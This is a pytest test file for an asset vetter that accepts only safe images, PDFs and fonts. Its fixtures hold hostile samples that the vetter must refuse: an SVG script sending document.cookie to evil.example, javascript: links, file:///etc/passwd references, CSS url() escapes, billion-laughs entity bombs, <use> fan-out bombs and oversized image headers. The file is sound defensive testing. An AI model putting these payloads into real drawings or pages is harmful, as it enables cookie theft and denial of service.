"""content/assets/ is vetted file by file: only safe images, PDFs and fonts are published."""

from __future__ import annotations

import struct
import zlib
from pathlib import Path

import pytest

from handouts import limits
from handouts.assets import ALLOWED_SUFFIXES, vet_asset

EXAMPLE_ASSETS = Path(__file__).resolve().parents[1] / "content" / "assets"
SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100">'
SVG_XLINK = ('<svg xmlns="http://www.w3.org/2000/svg" '
             'xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100">')


def svg(*lines: str, opening: str = SVG_OPEN) -> bytes:
    """A drawing: its root element on line 1, then each of ``lines`` on its own line."""
    return "\n".join([opening, *lines, "</svg>"]).encode()


def vet_svg(*lines: str, opening: str = SVG_OPEN) -> list[tuple[int | None, str]]:
    return vet_asset(Path("content/assets/drawing.svg"), svg(*lines, opening=opening))


def png() -> bytes:
    """A real 1×1 PNG, chunk by chunk."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return (struct.pack(">I", len(body)) + kind + body
                + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF))
    header = struct.pack(">IIBBBBB", 1, 1, 8, 6, 0, 0, 0)
    pixels = zlib.compress(b"\x00\x0a\x4f\x8f\xff")
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels)
            + chunk(b"IEND", b""))


# The start of a JPEG: its marker, a JFIF segment, the frame's header (10 × 10 pixels).
JPEG = (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
        b"\xff\xc0\x00\x0b\x08\x00\x0a\x00\x0a\x01\x01\x11\x00\xff\xd9")
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n"
HTML = b"<!DOCTYPE html>\n<html><body><script>fetch('/steal')</script></body></html>\n"


# -- what passes -------------------------------------------------------------------------

def test_the_repositorys_own_example_assets_pass():
    assets = sorted(EXAMPLE_ASSETS.iterdir())
    assert assets
    for path in assets:
        assert vet_asset(path, path.read_bytes()) == [], path


SAFE_SVGS = {
    "chart": svg('  <title>Delegates by region</title>',
                 '  <style>text { font-family: sans-serif; fill: #1a1a1a; }</style>',
                 '  <rect x="10" y="10" width="40" height="20" fill="#0a4f8f"/>',
                 '  <text x="55" y="25">40</text>'),
    "gradient": svg('  <defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/>'
                    '<stop offset="1" stop-color="#000"/></linearGradient></defs>',
                    '  <rect width="100" height="100" fill="url(#g)" '
                    'style="stroke: url( \'#g\' )"/>'),
    "use href": svg('  <defs><circle id="a" r="5"/></defs>',
                    '  <use href="#a" x="10"/><use href="#a" x="20"/>'),
    "use xlink:href": svg('  <defs><circle id="a" r="5"/></defs>',
                          '  <use xlink:href="#a" x="10"/>', opening=SVG_XLINK),
    "fragment link": svg('  <a href="#part"><text id="part" y="20">Part</text></a>'),
    "data: image": svg('  <image width="1" height="1" href="data:image/png;base64,'
                       'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgAAAAAgAB'
                       '4iG8MwAAAABJRU5ErkJggg=="/>'),
    "external DOCTYPE": ('<?xml version="1.0" encoding="UTF-8"?>\n'
                         '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
                         '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
                         + svg('<rect width="1" height="1"/>').decode()).encode(),
}


@pytest.mark.parametrize("name", SAFE_SVGS)
def test_a_safe_drawing_passes(name):
    assert vet_asset(Path("content/assets/drawing.svg"), SAFE_SVGS[name]) == []


@pytest.mark.parametrize("file_name, data", [
    ("dot.png", png()),
    ("photo.jpg", JPEG),
    ("photo.JPEG", JPEG),
    ("animation.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"),
    ("photo.webp", b"RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00\x2f"
     + (9 | 9 << 14).to_bytes(4, "little")),
    ("rules.pdf", PDF),
    ("sans.ttf", b"\x00\x01\x00\x00\x00\x0a"),
    ("sans.otf", b"OTTO\x00\x0a"),
    ("sans.woff", b"wOFF\x00\x01\x00\x00"),
    ("sans.woff2", b"wOF2\x00\x01\x00\x00"),
])
def test_a_real_image_pdf_or_font_passes(file_name, data):
    assert vet_asset(Path("content/assets") / file_name, data) == []


def test_the_allowed_suffixes_are_images_pdfs_and_fonts():
    assert ALLOWED_SUFFIXES == frozenset({".png", ".jpg", ".jpeg", ".gif", ".webp", ".svg",
                                          ".pdf", ".ttf", ".otf", ".woff", ".woff2"})


# -- kinds, content and size ---------------------------------------------------------------

@pytest.mark.parametrize("file_name, what", [
    ("portal.html", "a .html file"),
    ("notes.txt", "a .txt file"),
    ("track.js", "a .js file"),
    ("README", "a file without a suffix"),
    (".htaccess", "a file without a suffix"),
])
def test_a_file_of_another_kind_is_refused(file_name, what):
    assert vet_asset(Path("content/assets") / file_name, b"hello") == [
        (None, f"content/assets/ holds only images, PDFs and fonts: {file_name} is {what}, "
               "which is not published; remove it")]


def test_an_html_page_named_png_is_refused():
    assert vet_asset(Path("content/assets/x.png"), HTML) == [
        (None, "x.png is not a PNG image: its content does not begin as a .png file's does; "
               "replace it with a real PNG image, or remove it")]


def test_a_jpeg_named_png_is_told_its_real_kind():
    assert vet_asset(Path("content/assets/photo.png"), JPEG) == [
        (None, "photo.png is not a PNG image: it holds a JPEG image; rename it photo.jpg")]


@pytest.mark.parametrize("file_name, kind", [
    ("rules.pdf", "PDF document"),
    ("sans.woff2", "WOFF2 font"),
    ("sans.ttf", "TrueType or OpenType font"),
    ("photo.webp", "WebP image"),
])
def test_a_pdf_or_font_must_begin_as_one(file_name, kind):
    suffix = Path(file_name).suffix
    assert vet_asset(Path("content/assets") / file_name, HTML) == [
        (None, f"{file_name} is not a {kind}: its content does not begin as a {suffix} "
               f"file's does; replace it with a real {kind}, or remove it")]


def test_a_file_name_with_control_characters_is_shown_escaped():
    assert vet_asset(Path("content/assets/x\x1b[2J.exe"), b"MZ") == [
        (None, "content/assets/ holds only images, PDFs and fonts: x\\u001b[2J.exe is a "
               ".exe file, which is not published; remove it")]


def test_a_file_larger_than_the_limit_is_refused(monkeypatch):
    monkeypatch.setattr(limits, "MAX_ASSET_BYTES", 100)
    data = png() + b"\x00" * 100
    assert vet_asset(Path("content/assets/big.png"), data) == [
        (None, f"big.png is {len(data)} bytes, more than the 100 bytes an asset may have: "
               "make it smaller, or remove it")]
    assert vet_asset(Path("content/assets/small.png"), png()) == []


def test_a_large_size_is_given_in_megabytes(monkeypatch):
    monkeypatch.setattr(limits, "MAX_ASSET_BYTES", 1_000_000)
    assert vet_asset(Path("content/assets/big.pdf"), PDF + b"\x00" * 1_500_000) == [
        (None, "big.pdf is 1.5 MB, more than the 1.0 MB an asset may have: make it "
               "smaller, or remove it")]


# -- SVG: code, HTML and what lies outside the drawing -------------------------------------

def test_a_script_is_refused():
    assert vet_svg('  <rect width="1" height="1"/>',
                   '  <script>fetch("https://evil.example/?" + document.cookie)</script>') == [
        (3, "the <script> element holds a script, and scripts are not published: "
            "remove it")]


def test_a_script_of_another_namespace_is_refused():
    assert vet_svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>') == [
        (2, "the <h:script> element holds a script, and scripts are not published: "
            "remove it")]


def test_an_event_handler_is_refused():
    assert vet_asset(Path("content/assets/drawing.svg"),
                     b'<svg xmlns="http://www.w3.org/2000/svg"\n onload="alert(1)">\n'
                     b'<rect width="1" height="1"\n  ONCLICK="alert(2)"/></svg>') == [
        (1, 'the <svg> element has an event handler, onload="\u2026", and scripts are not '
            "published: remove the onload attribute"),
        (3, 'the <rect> element has an event handler, ONCLICK="\u2026", and scripts are not '
            "published: remove the ONCLICK attribute")]


def test_a_foreign_object_is_refused():
    assert vet_svg('<g>',
                   '  <foreignObject width="100" height="100">',
                   '    <iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/>',
                   '  </foreignObject>',
                   '</g>') == [
        (3, "the <foreignObject> element can embed HTML in the drawing: remove it"),
        (4, "the <iframe> element is an HTML element inside the drawing: remove it")]


def test_an_image_of_a_local_file_is_refused():
    assert vet_svg('<image width="10" height="10"',
                   '       xlink:href="file:///etc/passwd"/>', opening=SVG_XLINK) == [
        (2, 'the <image> element has xlink:href="file:///etc/passwd", which points outside '
            'the drawing: only references to its own elements ("#id") and images embedded '
            "as data:image/png, jpeg, gif or webp are published; remove it")]


def test_an_image_from_the_web_is_refused():
    assert vet_svg('<rect width="1" height="1"/>',
                   '<image href="http://tracker.example/pixel.png"/>') == [
        (3, 'the <image> element has href="http://tracker.example/pixel.png", which points '
            'outside the drawing: only references to its own elements ("#id") and images '
            "embedded as data:image/png, jpeg, gif or webp are published; remove it")]


def test_an_embedded_svg_image_is_refused():
    assert vet_svg('<image href="data:image/svg+xml;base64,PHN2Zz4="/>') == [
        (2, 'the <image> element has href="data:image/svg+xml;base64,PHN2Zz4=", which points '
            'outside the drawing: only references to its own elements ("#id") and images '
            "embedded as data:image/png, jpeg, gif or webp are published; remove it")]


def test_a_use_of_another_file_is_refused():
    assert vet_svg('<use href="other.svg#x"/>') == [
        (2, 'the <use> element has href="other.svg#x", which points outside the drawing: '
            'only references to its own elements ("#id") are published; remove it')]


def test_a_javascript_link_is_refused():
    assert vet_svg('<a href=" javascript:alert(1)"><text y="20">Click</text></a>') == [
        (2, 'the <a> element has href="javascript:alert(1)", which points outside the '
            'drawing: only references to its own elements ("#id") are published; remove it')]


def test_a_link_to_the_web_is_refused():
    assert vet_svg('<a href="https://evil.example"><text y="20">Click</text></a>') == [
        (2, 'the <a> element has href="https://evil.example", which points outside the '
            'drawing: only references to its own elements ("#id") are published; remove it')]


def test_a_style_loading_from_the_web_is_refused():
    assert vet_svg('<style>',
                   '  rect { fill: url(http://tracker.example/x.svg#g); }',
                   '</style>',
                   '<rect width="1" height="1" style="fill: URL(\'file:///etc/passwd\')"/>',
                   '<rect width="1" height="1" filter="url(https://evil.example/f.svg#f)"/>') == [
        (2, "the <style> element loads url(http://tracker.example/x.svg#g), outside the "
            "drawing: only url(#id) references to its own elements are allowed; remove it"),
        (5, "the style attribute of <rect> loads url(file:///etc/passwd), outside the "
            "drawing: only url(#id) references to its own elements are allowed; remove it"),
        (6, "the filter attribute of <rect> loads url(https://evil.example/f.svg#f), outside "
            "the drawing: only url(#id) references to its own elements are allowed; "
            "remove it")]


def test_a_style_hiding_url_behind_an_escape_or_a_comment_is_refused():
    assert vet_svg(r'<style>rect { fill: \75 rl(http://evil.example/a) }</style>',
                   '<style>rect { fill: url(/*x*/#a) }</style>') == [
        (2, "the <style> element loads url(http://evil.example/a), outside the drawing: "
            "only url(#id) references to its own elements are allowed; remove it"),
        (3, "the <style> element loads url(/*x*/#a), outside the drawing: only url(#id) "
            "references to its own elements are allowed; remove it")]


def test_a_style_importing_or_scripting_is_refused():
    assert vet_svg('<style>@IMPORT "https://evil.example/a.css";</style>',
                   '<style>a { background: image-set("x.png" 1x) }</style>',
                   '<rect width="1" height="1" style="behavior: javascript:alert(1)"/>') == [
        (2, "the <style> element has an @import rule, which loads a stylesheet from outside "
            "the drawing: remove it"),
        (3, "the <style> element uses image-set(), which loads a file from outside the "
            "drawing: remove it"),
        (4, "the style attribute of <rect> has a javascript: URL, and scripts are not "
            "published: remove it")]


def test_a_stylesheet_instruction_is_refused():
    assert vet_asset(Path("content/assets/drawing.svg"),
                     b'<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="x.xsl"?>\n'
                     + svg()) == [
        (2, "the <?xml-stylesheet \u2026?> instruction loads a stylesheet from outside the "
            "drawing: remove it")]


def test_xml_base_is_refused():
    assert vet_svg('<g xml:base="https://evil.example/"><use href="#a"/></g>') == [
        (2, "the <g> element has xml:base, which changes where the drawing's references "
            "point: remove the xml:base attribute")]


def test_an_animation_of_a_link_is_refused():
    assert vet_svg('<a href="#a"><text id="a" y="20">Click</text>',
                   '  <set attributeName="href" to="javascript:alert(1)"/>',
                   '  <animate attributeName="xlink:href" values="https://evil.example"/>',
                   '</a>', opening=SVG_XLINK) == [
        (3, "the <set> element changes href as it animates, which could point the drawing "
            "anywhere or run a script: remove it"),
        (4, "the <animate> element changes xlink:href as it animates, which could point the "
            "drawing anywhere or run a script: remove it")]


# -- SVG: entities, and drawings that expand without end -----------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE svg [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&lol9;</text></svg>
"""
ENTITY_MESSAGE = ("the drawing declares an entity (<!ENTITY \u2026>), which can expand a small "
                  "file into gigabytes: remove the <!DOCTYPE \u2026> declaration and its "
                  "entities")


def test_billion_laughs_is_refused():
    assert vet_asset(Path("content/assets/lol.svg"), BILLION_LAUGHS) == [(3, ENTITY_MESSAGE)]


def test_entities_in_utf16_are_refused_too():
    # The bytes hold no "<!ENTITY": the parser, not a search of the bytes, finds it.
    data = BILLION_LAUGHS.replace(b'<?xml version="1.0"?>', b"").lstrip().decode()
    assert vet_asset(Path("content/assets/lol.svg"), data.encode("utf-16")) == [
        (2, ENTITY_MESSAGE)]


def test_a_doctype_with_an_internal_subset_is_refused():
    assert vet_asset(Path("content/assets/drawing.svg"),
                     b'<?xml version="1.0"?>\n<!DOCTYPE svg [\n'
                     b'  <!ATTLIST svg onload CDATA "alert(1)">\n]>\n' + svg()) == [
        (2, "the <!DOCTYPE> declaration has an internal subset ([ \u2026 ]), where entities "
            "that expand without end can hide: remove the declaration")]


def fan_out_bomb() -> bytes:
    """A 1.2 kB drawing: six levels of groups, each using the level below 10 times."""
    lines = ["<defs>", '<g id="a0"><rect width="1" height="1"/></g>']
    for level in range(1, 7):
        lines.append(f'<g id="a{level}">' + f'<use href="#a{level - 1}"/>' * 10 + "</g>")
    lines += ["</defs>", '<use href="#a6"/>']
    return svg(*lines)


def test_a_use_fan_out_bomb_is_refused():
    # Level sizes: a0 = 2 (g, rect), a(k) = 1 + 10 × (1 + a(k-1)): 31, 321, … 3,222,221.
    # Each group counted where it stands: 3,580,238; <defs>: 1; the last <use>: 1 + a6;
    # the <svg>: 1.
    levels = [2]
    for _ in range(6):
        levels.append(1 + 10 * (1 + levels[-1]))
    expected = 1 + (1 + sum(levels)) + (1 + levels[-1])
    assert expected == 6_802_462
    data = fan_out_bomb()
    assert len(data) < 1600
    assert vet_asset(Path("content/assets/bomb.svg"), data) == [
        (1, "the drawing expands to 6,802,462 elements once its <use> and url(#…) "
            "references are followed (at most 20,000): simplify it")]


def test_a_deeper_bomb_is_counted_without_end_but_not_forever():
    lines = ['<g id="a0"><rect width="1" height="1"/></g>']
    for level in range(1, 60):
        lines.append(f'<g id="a{level}">' + f'<use href="#a{level - 1}"/>' * 10 + "</g>")
    assert vet_asset(Path("content/assets/bomb.svg"), svg(*lines)) == [
        (1, "the drawing expands to more than 1,000,000,000,000 elements once its <use> "
            "and url(#…) references are followed (at most 20,000): simplify it")]


def test_a_drawing_just_within_the_limit_passes(monkeypatch):
    monkeypatch.setattr(limits, "MAX_SVG_ELEMENTS", 8)
    # svg, defs, g, circle; 2 × (use + g + circle) = 10: over.
    lines = ['<defs><g id="a"><circle r="1"/></g></defs>', '<use href="#a"/><use href="#a"/>']
    assert vet_svg(*lines) == [
        (1, "the drawing expands to 10 elements once its <use> and url(#…) references are "
            "followed (at most 8): simplify it")]
    monkeypatch.setattr(limits, "MAX_SVG_ELEMENTS", 10)
    assert vet_svg(*lines) == []


def test_a_drawing_with_too_many_elements_of_its_own_is_refused(monkeypatch):
    # Read no further than one element over: the problems met until then are listed.
    monkeypatch.setattr(limits, "MAX_SVG_ELEMENTS", 50)
    assert vet_svg(*['<rect width="1" height="1"/>'] * 60, "<script>x()</script>") == [
        (1, "the drawing has more than 50 elements, the most one may have: simplify it")]
    assert vet_svg("<script>x()</script>", *['<rect width="1" height="1"/>'] * 60) == [
        (2, "the <script> element holds a script, and scripts are not published: "
            "remove it"),
        (1, "the drawing has more than 50 elements, the most one may have: simplify it")]
    assert vet_svg(*['<rect width="1" height="1"/>'] * 49) == []


def test_a_use_of_its_own_group_is_a_cycle():
    assert vet_svg('<g id="loop">',
                   '  <rect width="1" height="1"/>',
                   '  <use href="#loop"/>',
                   '</g>') == [
        (4, "an element refers to #loop, which contains it or leads back to it: the "
            "drawing would never end; remove the reference")]


def test_a_cycle_through_two_uses_names_one_of_them():
    assert vet_svg('<use href="#y"/>',
                   '<g id="p">',
                   '  <g id="y">',
                   '    <use xlink:href="#p"/>',
                   '  </g>',
                   '</g>', opening=SVG_XLINK) == [
        (5, "an element refers to #p, which contains it or leads back to it: the "
            "drawing would never end; remove the reference")]


# -- SVG: what is not a drawing ------------------------------------------------------------

def test_html_named_svg_is_refused():
    page = b'<html xmlns="http://www.w3.org/1999/xhtml">\n<body onload="x()"/></html>'
    assert vet_asset(Path("content/assets/page.svg"), page) == [
        (1, "page.svg is not an SVG drawing: its root element is <html>, not <svg>; "
            "remove it")]


def test_an_svg_without_its_namespace_is_refused():
    assert vet_asset(Path("content/assets/plain.svg"), b'<svg><rect/></svg>') == [
        (1, 'plain.svg is not an SVG drawing: its root element <svg> lacks '
            'xmlns="http://www.w3.org/2000/svg"; add it')]


def test_a_drawing_that_is_not_well_formed_is_refused():
    assert vet_asset(Path("content/assets/broken.svg"), svg("<g>", "<rect>", "</g>")) == [
        (4, "broken.svg is not an SVG drawing: its XML is not well-formed (mismatched tag); "
            "export it again")]
    assert vet_asset(Path("content/assets/png.svg"), png()) == [
        (1, "png.svg is not an SVG drawing: its XML is not well-formed (not well-formed "
            "(invalid token)); export it again")]


def test_a_hostile_drawing_lists_twenty_problems_and_counts_the_rest():
    problems = vet_svg(*['<rect width="1" height="1" onclick="x()"/>'] * 25)
    assert len(problems) == 21
    assert problems[0][0] == 2 and problems[19][0] == 21
    assert problems[20] == (None, "5 more problems in the drawing are not listed: fix the "
                                  "ones above first")


def _png_header(width: int, height: int) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + header
            + struct.pack(">I", zlib.crc32(b"IHDR" + header)))


def _jpeg_header(width: int, height: int) -> bytes:
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    sof0 = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return b"\xff\xd8" + app0 + sof0


@pytest.mark.parametrize("name, data", [
    ("bomb.png", _png_header(100_000, 100_000)),
    ("bomb.jpg", _jpeg_header(60_000, 60_000)),
    ("bomb.gif", b"GIF89a" + (60_000).to_bytes(2, "little") * 2 + b"\x00" * 3 + b"\x3b"),
])
def test_a_small_image_claiming_huge_dimensions_is_refused(name, data):
    width = {"bomb.png": 100_000}.get(name, 60_000)
    assert vet_asset(Path(name), data) == [(None, (
        f"{name} is {width:,} × {width:,} pixels, more than the 50,000,000 an image may have "
        "(decoding it would take gigabytes): scale it down"))]


def test_an_ordinary_image_passes_the_pixel_limit():
    assert vet_asset(Path("photo.jpg"), _jpeg_header(4000, 3000)) == []
    assert vet_asset(Path("chart.png"), _png_header(2400, 1600)) == []


def test_the_pixel_limit_is_not_bypassed_by_a_chunk_or_junk_before_the_size():
    text_chunk = struct.pack(">I", 4) + b"tEXt" + b"abcd" + b"\0\0\0\0"
    png = _png_header(12_000, 12_000)
    assert vet_asset(Path("a.png"), png[:8] + text_chunk + png[8:]) == [(None, (
        "a.png's size cannot be read from its header: save it again as a PNG image"))]
    jpeg = _jpeg_header(12_000, 12_000)
    assert vet_asset(Path("a.jpg"), jpeg[:20] + b"\x00" + jpeg[20:]) == [(None, (
        "a.jpg is 12,000 × 12,000 pixels, more than the 50,000,000 an image may have "
        "(decoding it would take gigabytes): scale it down"))]


def test_a_pattern_painted_on_many_shapes_counts_like_a_use_of_it():
    """A pattern of 400 rectangles filling 400 rectangles took WeasyPrint 9.6 s."""
    pattern = ('<defs><pattern id="p" width="4" height="4">' + '<rect width="1" height="1"/>' * 400
               + "</pattern></defs>")
    shapes = '<rect width="9" height="9" fill="url(#p)"/>' * 400
    assert vet_asset(Path("content/assets/paint.svg"), svg(pattern, shapes)) == [
        (1, "the drawing expands to 161,203 elements once its <use> and url(#…) references are "
            "followed (at most 20,000): simplify it")]


def test_a_gif_frame_larger_than_its_canvas_counts():
    canvas = b"GIF89a" + (1).to_bytes(2, "little") * 2 + b"\x00\x00\x00"
    frame = (b"\x2c" + (0).to_bytes(2, "little") * 2 + (12_000).to_bytes(2, "little") * 2
             + b"\x00" + b"\x02" + b"\x02\x4c\x01" + b"\x00")
    assert vet_asset(Path("a.gif"), canvas + frame + b"\x3b") == [(None, (
        "a.gif is 12,000 × 12,000 pixels, more than the 50,000,000 an image may have "
        "(decoding it would take gigabytes): scale it down"))]
    small = (b"\x2c" + (0).to_bytes(2, "little") * 2 + (1).to_bytes(2, "little") * 2
             + b"\x00" + b"\x02" + b"\x02\x4c\x01" + b"\x00")
    assert vet_asset(Path("b.gif"), canvas + small + b"\x3b") == []
